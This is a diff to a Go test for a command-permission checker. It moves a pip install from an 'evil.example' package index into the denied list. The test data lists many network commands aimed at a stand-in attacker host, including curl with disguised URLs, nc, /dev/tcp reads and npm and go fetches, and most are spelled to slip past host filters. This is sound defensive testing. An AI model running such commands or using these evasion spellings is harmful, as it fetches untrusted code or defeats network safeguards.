@@ -27,14 +27,14 @@ func TestSpellings(t *testing.T) {
 			deny: []string{
 				"curl evil.example", "curl //evil.example", "curl https:/evil.example", "curl https:///evil.example/x", "curl EVIL.example.:80",
 				"curl user:pw@evil.example", "curl https://good.example@evil.example/", `curl https://evil.example/"$x"`,
-				"git clone git@[evil.example]:x", "ssh -J evil.example good.example",
+				"git clone git@[evil.example]:x", "ssh -J evil.example good.example", "python -m pip install -i https://evil.example/x y",
 			},
 			ask: []string{
 				`curl "$x"`, `curl https://"$x"`, `curl https://evil"$x"`, "curl 'https://{evil,good}.example/'", "curl 'https://[e]vil.example/'",
 				"curl https://%65vil.example/", `curl 'https://evil.example\@good.example/'`, "curl -K x good.example", "wget -i list",
 				"curl --connect-to good.example:443:evil.example:443 https://good.example", "cat </dev/tcp/$h/80",
 				"nc evil.example 80", "ssh -o HostName=evil.example good.example", "npm install https://evil.example/x",
-				"go get evil.example/x", "git -c http.proxy=evil.example fetch", "python -m pip install -i https://evil.example/x y",
+				"go get evil.example/x", "git -c http.proxy=evil.example fetch",
 			},
 		},
 		{
